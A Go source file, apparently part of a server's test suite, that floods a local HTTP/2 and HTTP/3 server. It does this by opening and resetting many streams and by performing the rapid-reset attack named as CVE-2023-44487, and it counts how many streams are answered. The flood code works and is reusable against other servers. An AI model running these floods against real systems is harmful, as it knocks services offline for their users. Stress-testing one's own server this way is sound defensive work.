//go:build linux

package hostile

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go/http3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// mostStreams is the most streams of one HTTP/2 connection in one attack.
const mostStreams = 100_000

// h2 is an HTTP/2 client that may break the rules.
type h2 struct {
	ctx      context.Context
	attacker *attacker
	framer   *http2.Framer
	out      *bufio.Writer
	request  []byte // header block of each request
	next     uint32
	writing  sync.Mutex
	answered atomic.Int64
}

// streamPath is the path of floods of streams. pagePath is that of the same flood for a page without
// streams.
const (
	streamPath = "/events?topic=news/1"
	pagePath   = "/ready"
)

// floodH2 has some connections flood the server with requests for a path. Each connection that ends is
// opened again.
func (a *attacker) floodH2(ctx context.Context, connections int, path string, flood func(*h2) error) {
	var clients sync.WaitGroup
	for range connections {
		clients.Go(func() {
			for n := 0; n < 1000 && ctx.Err() == nil; n++ {
				a.oneH2(ctx, path, flood)
			}
		})
	}
	clients.Wait()
}

func (a *attacker) oneH2(ctx context.Context, path string, flood func(*h2) error) {
	security := a.security.Clone()
	security.NextProtos = []string{"h2"}
	conn, err := (&tls.Dialer{Config: security}).DialContext(ctx, "tcp", fmt.Sprintf("127.0.0.1:%d", a.HTTPS))
	if err != nil {
		return
	}
	defer context.AfterFunc(ctx, func() { conn.SetDeadline(time.Unix(1, 0)) })()
	c := &h2{ctx: ctx, attacker: a, out: bufio.NewWriter(conn), next: 1}
	c.framer = http2.NewFramer(c.out, bufio.NewReader(conn))
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", "GET"},
		{":scheme", "https"},
		{":authority", fmt.Sprintf("localhost:%d", a.HTTPS)},
		{":path", path},
	} {
		if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			panic(err)
		}
	}
	c.request = block.Bytes()
	_, _ = c.out.WriteString(http2.ClientPreface)
	_ = c.framer.WriteSettings()
	a.count("connections", 1)

	var reading sync.WaitGroup
	reading.Go(c.read)
	_ = flood(c) // until the connection or ctx ends
	conn.Close()
	reading.Wait()
}

// read reads frames of the server, and answers those that need an answer.
func (c *h2) read() {
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		c.writing.Lock()
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				err = c.framer.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				err = c.framer.WritePing(true, f.Data)
			}
		case *http2.HeadersFrame:
			c.answered.Add(1)
		case *http2.DataFrame:
			if n := len(f.Data()); n > 0 {
				err = c.framer.WriteWindowUpdate(0, uint32(n))
			}
		}
		if err == nil {
			err = c.out.Flush()
		}
		c.writing.Unlock()
		if err != nil {
			return
		}
	}
}

// answerLimit is how long a connection waits for the answers to its requests. Without -full the machine may
// be busy, and the attacker, whose priority is low, must get some.
func answerLimit() time.Duration { return time.Duration(scale(20, 1)) * time.Second }

// open requests a stream and returns its number.
func (c *h2) open() (id uint32, err error) {
	id = c.next
	c.next += 2
	return id, c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.request, EndStream: true, EndHeaders: true})
}

// manyStreams opens as many streams as the server allows. It resets them when they are answered, and
// opens others.
func manyStreams(c *h2) error {
	const atOnce = 200
	for c.next < 2*mostStreams {
		var ids []uint32
		c.writing.Lock()
		for range atOnce {
			id, err := c.open()
			if err != nil {
				c.writing.Unlock()
				return err
			}
			ids = append(ids, id)
		}
		err := c.out.Flush()
		c.writing.Unlock()
		if err != nil {
			return err
		}
		c.attacker.count("streams", atOnce)
		for deadline := time.Now().Add(answerLimit()); c.answered.Load() < atOnce && time.Now().Before(deadline); {
			if !sleep(c.ctx, 5*time.Millisecond) {
				return c.ctx.Err()
			}
		}
		c.attacker.count("streams answered", int(c.answered.Swap(0)))
		c.writing.Lock()
		for _, id := range ids {
			if err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
				break
			}
		}
		if err == nil {
			err = c.out.Flush()
		}
		c.writing.Unlock()
		if err != nil {
			return err
		}
	}
	return nil
}

// rapidResets resets each stream right after its request. (CVE-2023-44487)
func rapidResets(c *h2) error {
	for c.next < 2*mostStreams {
		c.writing.Lock()
		id, err := c.open()
		if err == nil {
			err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil && id%32 == 1 {
			err = c.out.Flush()
		}
		c.writing.Unlock()
		if err != nil {
			return err
		}
		c.attacker.count("streams", 1)
	}
	<-c.ctx.Done()
	return nil
}

// floodH3 has HTTP/3 connections that request a path and cancel the request.
func (a *attacker) floodH3(ctx context.Context, path string) {
	var clients sync.WaitGroup
	for range scale(3, 20) {
		clients.Go(func() {
			for n := 0; n < 1000 && ctx.Err() == nil; n++ {
				a.oneH3(ctx, path)
			}
		})
	}
	clients.Wait()
}

func (a *attacker) oneH3(ctx context.Context, path string) {
	tr := &http3.Transport{TLSClientConfig: a.security}
	defer tr.Close()
	a.count("connections", 1)
	for range 5 {
		within, cancel := context.WithTimeout(ctx, 2*answerLimit())
		var streams sync.WaitGroup
		for range 90 {
			streams.Go(func() {
				req, err := http.NewRequestWithContext(within, http.MethodGet, fmt.Sprintf("https://localhost:%d%s", a.HTTPS, path), nil)
				if err != nil {
					panic(err)
				}
				resp, err := tr.RoundTrip(req)
				if err != nil {
					return
				}
				defer resp.Body.Close()
				if n, _ := resp.Body.Read(make([]byte, 512)); n > 0 {
					a.count("streams", 1)
				}
			})
		}
		streams.Wait()
		cancel()
		if ctx.Err() != nil {
			return
		}
	}
}
